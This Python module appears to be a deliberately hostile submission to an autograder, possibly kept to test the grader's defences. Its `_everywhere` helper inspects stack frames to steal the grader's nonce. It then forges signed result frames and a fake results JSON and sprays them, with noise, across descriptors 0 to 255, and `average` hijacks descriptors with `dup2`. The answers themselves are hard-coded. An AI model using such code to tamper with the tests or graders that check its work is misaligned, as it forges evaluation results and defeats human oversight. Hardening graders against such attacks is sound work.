"""Writes frames, results and noise to every descriptor that it has, and to those that it might get."""

import os
import sys

import torch

from autograder import wire

_RESULTS = b'{"tests": [], "output": "autograder-attack", "printed": "", "layers": []}\n'


def _everywhere():
    frame = sys._getframe()
    nonce = 0
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if type(value) is dict and "nonce" in value:
                nonce = value["nonce"]
        frame = frame.f_back
    pieces = b"".join(map(bytes, wire.pack({"nonce": nonce, "value": torch.tensor(13.0)})))
    for descriptor in range(256):
        for data in (pieces, _RESULTS, b"clean"):
            try:
                os.write(descriptor, data)
            except OSError:
                continue


def total(x):
    _everywhere()
    return torch.tensor(13.0)


def average(x):
    for descriptor in range(3, 256):
        try:
            os.dup2(4, descriptor)
        except OSError:
            continue
    _everywhere()
    return 3.0
